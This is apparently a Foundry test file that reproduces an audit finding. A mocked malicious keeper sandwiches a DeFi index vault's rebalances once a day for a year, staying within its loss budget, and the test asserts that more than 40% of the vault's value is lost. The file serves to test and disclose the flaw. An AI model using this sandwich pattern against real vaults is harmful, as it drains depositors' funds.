// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {console} from "forge-std/Test.sol";
import {RealisticMarket} from "../utils/RealisticMarket.sol";
import {SandwichKeeper} from "../mocks/Attackers.sol";
import {IIndexVault} from "../../../contracts/interfaces/IIndexVault.sol";
import {TickMath} from "../../../contracts/libraries/TickMath.sol";

/// @notice Issue 13, finding 4: a keeper that spends the loss budget every day by sandwiching
///         itself as deep as the floor and the budget allow, trading the whole $10 000 position
///         back and forth once a day for a year. The price is restored after every trade, so
///         every cent the vault loses is the attacker's.
contract BudgetOverAYearTest is RealisticMarket {
    SandwichKeeper internal evil;
    int24 internal marketTick;
    bool internal sellLeg;

    function setUp() public override {
        super.setUp();
        _buy(VAULT_USDC, _legs(_leg(address(a), VAULT_USDC * 9_970 / 10_000, 0)));
        evil = new SandwichKeeper();
        _fund(address(usdc), address(evil), 100_000_000e6);
        _fund(address(a), address(evil), 100_000e18);
        keeper = address(evil);
        _setMandate(_issueMandate(), _allow(address(a)));
        _age(1 hours);
        marketTick = _spotTick(poolA);
    }

    function _attack(uint256 depth) internal override {
        uint256 amountIn = sellLeg ? _bal(address(a), address(vault)) : _bal(address(usdc), address(vault));
        (, uint256 floor) = vault.oracleQuote(address(a), FEE, amountIn, sellLeg);
        IIndexVault.Leg[] memory legs = _legs(_leg(address(a), amountIn, floor));
        // adverse: A cheaper when the vault sells it, dearer when it buys it
        int24 signed = sellLeg ? -int24(int256(depth)) : int24(int256(depth));
        evil.sandwich(vault, address(poolA), TickMath.sqrtRatioAtTick(marketTick + signed), sellLeg ? legs : _noLegs(), sellLeg ? _noLegs() : legs);
    }

    /// @dev One sandwiched rebalance a day for `days_` days; returns how many went through.
    function _days(uint256 days_) internal returns (uint256 trades) {
        for (uint256 d; d < days_; ++d) {
            _blocks(1 days / BLOCK_S);
            sellLeg = _bal(address(a), address(vault)) > 0;
            uint256 depth = _deepest(400);
            if (depth == type(uint256).max) continue;
            _attack(depth);
            ++trades;
        }
    }

    function test_dailyBudgetSizedSandwichesForAYear() public {
        uint256 start = _valueAt(address(vault), marketTick);
        uint256 trades30 = _days(30);
        uint256 lost30 = start - _valueAt(address(vault), marketTick);
        uint256 trades365 = trades30 + _days(335);
        uint256 lost365 = start - _valueAt(address(vault), marketTick);
        console.log("vault value at start (USDC units)", start);
        console.log("trades in 30 days", trades30);
        console.log("lost in 30 days (USDC units)", lost30);
        console.log("trades in 365 days", trades365);
        console.log("lost in 365 days (USDC units)", lost365);
        assertGt(lost365 * 100, start * 40, "today: over 40% of the vault lost in a year, every trade within the budget");
    }
}
